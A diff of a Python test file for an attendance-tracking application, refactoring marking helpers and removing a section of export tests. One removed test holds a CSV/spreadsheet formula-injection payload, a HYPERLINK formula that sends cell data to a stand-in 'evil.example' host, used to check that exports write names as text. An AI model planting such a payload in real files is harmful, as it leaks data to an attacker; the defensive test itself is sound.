@@ -2,12 +2,9 @@
 
 from __future__ import annotations
 
-import csv
-import io
 from datetime import UTC, datetime, timedelta
 
 import pytest
-from openpyxl import load_workbook
 from sqlalchemy import func, select
 
 from cohort import db, services
@@ -25,19 +22,13 @@ from cohort.core.attendance_import import ImportRefused
 from cohort.core.participants import ParticipantRow
 from cohort.core.teams_attendance import TeamsReportError
 from cohort.models import Attendance, AttendanceImport, Delivery, Meeting, Participant
-from tests.fixtures.attendance import AFTER_WEBINAR_1, PEOPLE
+from tests.fixtures.attendance import AFTER_WEBINAR_1, PEOPLE, ids_by_first_name, record_marks
 from tests.fixtures.paths import FIXTURES
 
 
 @pytest.fixture
 def cohort_id(engine, make_cohort):
     return make_cohort(engine, people=PEOPLE).id
-
-
-def ids(engine, cohort_id) -> dict[str, int]:
-    with db.transaction(engine) as session:
-        return {p.name.split()[0]: p.id for p in session.scalars(
-            select(Participant).where(Participant.cohort_id == cohort_id))}
 
 
 def catch_ups(engine, cohort_id) -> dict[tuple[str, str], str]:
@@ -54,15 +45,10 @@ def marks(engine, cohort_id, meeting_key) -> dict[int, tuple[str, str]]:
                 for r in sheet.rows if r.attendance}
 
 
-def set_marks(engine, cohort_id, meeting_key, values, now=AFTER_WEBINAR_1):
-    with db.transaction(engine) as session:
-        return services.set_marks(session, cohort_id, meeting_key, values, "karin", now)
-
-
 def test_catch_up_is_created_once_per_absence_and_cancelled_when_corrected(engine, cohort_id):
-    who = ids(engine, cohort_id)
+    who = ids_by_first_name(engine, cohort_id)
     anne = who["Anne"]
-    result = set_marks(engine, cohort_id, "webinar-1",
+    result = record_marks(engine, cohort_id, "webinar-1",
                        {anne: Mark(ABSENT), who["Søren"]: Mark(PRESENT)})
     assert result.catch_ups_created == 1 and sorted(result.changed) == sorted(
         [anne, who["Søren"]])
@@ -83,43 +69,43 @@ def test_catch_up_is_created_once_per_absence_and_cancelled_when_corrected(engin
                                  for t in content.tasks)
 
     # the same absence again, or changed to excused: still the one delivery
-    set_marks(engine, cohort_id, "webinar-1", {anne: Mark(ABSENT, "ringede ikke")})
-    set_marks(engine, cohort_id, "webinar-1", {anne: Mark(EXCUSED, "syg")})
+    record_marks(engine, cohort_id, "webinar-1", {anne: Mark(ABSENT, "ringede ikke")})
+    record_marks(engine, cohort_id, "webinar-1", {anne: Mark(EXCUSED, "syg")})
     assert catch_ups(engine, cohort_id) == {("catch-up:webinar-1", "anne"): "pending"}
 
-    corrected = set_marks(engine, cohort_id, "webinar-1", {anne: Mark(PRESENT)})
+    corrected = record_marks(engine, cohort_id, "webinar-1", {anne: Mark(PRESENT)})
     assert corrected.catch_ups_cancelled == 1
     assert catch_ups(engine, cohort_id) == {("catch-up:webinar-1", "anne"): "cancelled"}
 
-    set_marks(engine, cohort_id, "webinar-1", {anne: Mark(ABSENT)})  # wrong again: revived
+    record_marks(engine, cohort_id, "webinar-1", {anne: Mark(ABSENT)})  # wrong again: revived
     assert catch_ups(engine, cohort_id) == {("catch-up:webinar-1", "anne"): "pending"}
-    set_marks(engine, cohort_id, "webinar-1", {anne: None})  # cleared: cancelled
+    record_marks(engine, cohort_id, "webinar-1", {anne: None})  # cleared: cancelled
     assert catch_ups(engine, cohort_id) == {("catch-up:webinar-1", "anne"): "cancelled"}
     assert anne not in marks(engine, cohort_id, "webinar-1")
 
 
 def test_a_sent_catch_up_is_never_sent_again_nor_cancelled(engine, cohort_id):
-    anne = ids(engine, cohort_id)["Anne"]
-    set_marks(engine, cohort_id, "webinar-1", {anne: Mark(ABSENT)})
+    anne = ids_by_first_name(engine, cohort_id)["Anne"]
+    record_marks(engine, cohort_id, "webinar-1", {anne: Mark(ABSENT)})
     with db.transaction(engine) as session:
         delivery = session.scalars(select(Delivery).where(Delivery.kind == "catch_up")).one()
         delivery.state, delivery.sent_at = "sent", AFTER_WEBINAR_1 + timedelta(days=1)
     later = AFTER_WEBINAR_1 + timedelta(days=2)
-    set_marks(engine, cohort_id, "webinar-1", {anne: Mark(PRESENT)}, now=later)
-    set_marks(engine, cohort_id, "webinar-1", {anne: Mark(ABSENT)}, now=later)
+    record_marks(engine, cohort_id, "webinar-1", {anne: Mark(PRESENT)}, now=later)
+    record_marks(engine, cohort_id, "webinar-1", {anne: Mark(ABSENT)}, now=later)
     assert catch_ups(engine, cohort_id) == {("catch-up:webinar-1", "anne"): "sent"}
 
 
 def test_no_catch_up_once_the_next_meeting_has_begun(engine, cohort_id):
-    anne = ids(engine, cohort_id)["Anne"]
-    result = set_marks(engine, cohort_id, "kickoff", {anne: Mark(ABSENT)})  # workshop 1 is past
+    anne = ids_by_first_name(engine, cohort_id)["Anne"]
+    result = record_marks(engine, cohort_id, "kickoff", {anne: Mark(ABSENT)})  # workshop 1 is past
     assert result.changed == [anne] and result.catch_ups_created == 0
     assert catch_ups(engine, cohort_id) == {}
 
 
 def test_rescheduling_leaves_catch_ups_alone(engine, cohort_id):
-    anne = ids(engine, cohort_id)["Anne"]
-    set_marks(engine, cohort_id, "webinar-1", {anne: Mark(ABSENT)})
+    anne = ids_by_first_name(engine, cohort_id)["Anne"]
+    record_marks(engine, cohort_id, "webinar-1", {anne: Mark(ABSENT)})
     with db.transaction(engine) as session:
         services.meetings.reschedule(session, cohort_id, "webinar-2",
                                      datetime(2025, 6, 19, 11, 0, tzinfo=UTC), None,
@@ -128,7 +114,7 @@ def test_rescheduling_leaves_catch_ups_alone(engine, cohort_id):
 
 
 def test_bad_marks_save_nothing(engine, cohort_id):
-    who = ids(engine, cohort_id)
+    who = ids_by_first_name(engine, cohort_id)
     with pytest.raises(services.NotFound, match="not in cohort"), \
             db.transaction(engine) as session:
         services.set_marks(session, cohort_id, "webinar-1",
@@ -141,7 +127,7 @@ def test_bad_marks_save_nothing(engine, cohort_id):
     assert marks(engine, cohort_id, "webinar-1") == {}
     assert catch_ups(engine, cohort_id) == {}
     # excused in advance is allowed, and queues the catch-up for after the meeting
-    set_marks(engine, cohort_id, "webinar-2", {who["Anne"]: Mark(EXCUSED, "ferie")})
+    record_marks(engine, cohort_id, "webinar-2", {who["Anne"]: Mark(EXCUSED, "ferie")})
     assert catch_ups(engine, cohort_id) == {("catch-up:webinar-2", "anne"): "pending"}
 
 
@@ -156,7 +142,7 @@ def workshop(engine, cohort_id) -> Meeting:
 
 
 def test_check_in_needs_the_room_code_and_the_time_window(engine, cohort_id, make_cohort):
-    who = ids(engine, cohort_id)
+    who = ids_by_first_name(engine, cohort_id)
     meeting = workshop(engine, cohort_id)
     assert meeting.format == "in_person"
     during = WORKSHOP_1_START + timedelta(minutes=20)
@@ -198,10 +184,10 @@ def test_check_in_needs_the_room_code_and_the_time_window(engine, cohort_id, mak
 
 
 def test_check_in_corrects_an_absence_and_cancels_its_catch_up(engine, cohort_id):
-    anne = ids(engine, cohort_id)["Anne"]
+    anne = ids_by_first_name(engine, cohort_id)["Anne"]
     meeting = workshop(engine, cohort_id)
     during = WORKSHOP_1_START + timedelta(minutes=30)
-    set_marks(engine, cohort_id, "workshop-1", {anne: Mark(ABSENT)}, now=during)
+    record_marks(engine, cohort_id, "workshop-1", {anne: Mark(ABSENT)}, now=during)
     assert catch_ups(engine, cohort_id) == {("catch-up:workshop-1", "anne"): "pending"}
     with db.transaction(engine) as session:
         code = services.check_in_code(session, cohort_id, "workshop-1")
@@ -230,8 +216,8 @@ def counts(engine) -> tuple[int, int, int]:
 
 
 def test_import_utf16_sectioned_report_with_unmatched_and_duplicate_rows(engine, cohort_id):
-    who = ids(engine, cohort_id)
-    set_marks(engine, cohort_id, "webinar-1", {who["Lars"]: Mark(EXCUSED, "kursus")})
+    who = ids_by_first_name(engine, cohort_id)
+    record_marks(engine, cohort_id, "webinar-1", {who["Lars"]: Mark(EXCUSED, "kursus")})
     data = (FIXTURES / "teams_webinar-1_sectioned_utf16.csv").read_bytes()
     with db.transaction(engine) as session:
         preview = services.preview_teams_import(session, cohort_id, "webinar-1", data)
@@ -271,7 +257,7 @@ def test_import_utf16_sectioned_report_with_unmatched_and_duplicate_rows(engine,
 
 
 def test_import_flat_utf8_report(engine, cohort_id):
-    who = ids(engine, cohort_id)
+    who = ids_by_first_name(engine, cohort_id)
     data = (FIXTURES / "teams_kickoff_flat_utf8.csv").read_bytes()
     with db.transaction(engine) as session:
         outcome = services.apply_teams_import(
@@ -306,58 +292,3 @@ def test_bad_or_mismatched_reports_save_nothing(engine, cohort_id):
                                     allow_other_date=True,
                                     now=datetime(2025, 6, 12, 14, tzinfo=UTC))
     assert counts(engine)[1] == 1
-
-
-# --- summaries and exports ------------------------------------------------------------------
-
-def test_summary_export_csv_and_xlsx(engine, cohort_id):
-    who = ids(engine, cohort_id)
-    everyone = {pid: Mark(PRESENT) for pid in who.values()}
-    set_marks(engine, cohort_id, "kickoff", {**everyone, who["Lars"]: Mark(ABSENT)})
-    set_marks(engine, cohort_id, "workshop-1", {**everyone, who["Lars"]: Mark(EXCUSED, "syg"),
-                                                who["Anne"]: Mark(ABSENT)})
-    with db.transaction(engine) as session:
-        data = services.attendance_as_dict(session, cohort_id, min_group=5)
-        small = services.attendance_as_dict(session, cohort_id, min_group=8)
-        csv_bytes = services.export_attendance_csv(session, cohort_id)
-        xlsx_bytes = services.export_attendance_xlsx(session, cohort_id)
-    kickoff = data["meetings"][0]
-    assert (kickoff["key"], kickoff["present"], kickoff["absent"]) == ("kickoff", 6, 1)
-    assert kickoff["rate"] == round(6 / 7, 4) and not kickoff["suppressed"]
-    assert data["follow_up"] == ["lars.jensen@vejle-kommune.example"]
-    assert data["distribution"] == [dict(attended=0, participants=1),
-                                    dict(attended=1, participants=1),
-                                    dict(attended=2, participants=5)]
-    assert small["meetings"][0]["rate"] is None and small["meetings"][0]["suppressed"]
-    assert small["distribution"] is None
-
-    assert csv_bytes.startswith(b"\xef\xbb\xbf")
-    rows = list(csv.reader(io.StringIO(csv_bytes.decode("utf-8-sig")), delimiter=";"))
-    assert rows[0][:5] == ["name", "email", "organisation", "kickoff", "workshop-1"]
-    lars = next(r for r in rows if r[0] == "Lars Jensen")
-    assert lars[3:5] == ["absent", "excused"] and lars[-2:] == ["0", "2"]
-
-    book = load_workbook(io.BytesIO(xlsx_bytes))
-    sheet = book["Attendance"]
-    values = [[c.value for c in row] for row in sheet.iter_rows()]
-    assert values[0] == rows[0]
-    assert any(r[0] == "Søren Østergaard" and r[3] == "present" for r in values)
-    meetings = [[c.value for c in row] for row in book["Meetings"].iter_rows()]
-    assert meetings[1][:6] == ["kickoff", "Kick-off-webinar", 6, 1, 0, 0]
-
-
-def test_exports_write_names_as_text_not_formulas(engine, make_cohort):
-    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
-    cohort = make_cohort(engine, people=[
-        ParticipantRow(evil, "evil@x.example", "@SUM(1+1)"),
-        ParticipantRow("Anne", "anne@x.example", "Vejle, Kommune")])
-    with db.transaction(engine) as session:
-        csv_bytes = services.export_attendance_csv(session, cohort.id)
-        xlsx_bytes = services.export_attendance_xlsx(session, cohort.id)
-    text = csv_bytes.decode("utf-8-sig")
-    rows = {r[1]: r for r in csv.reader(io.StringIO(text), delimiter=";")}
-    assert rows["evil@x.example"][0] == "'" + evil and rows["evil@x.example"][2] == "'@SUM(1+1)"
-    assert '"Vejle, Kommune"' in text
-    sheet = load_workbook(io.BytesIO(xlsx_bytes))["Attendance"]
-    cells = [c for row in sheet.iter_rows() for c in row if c.value in (evil, "@SUM(1+1)")]
-    assert len(cells) == 2 and {c.data_type for c in cells} == {"s"}
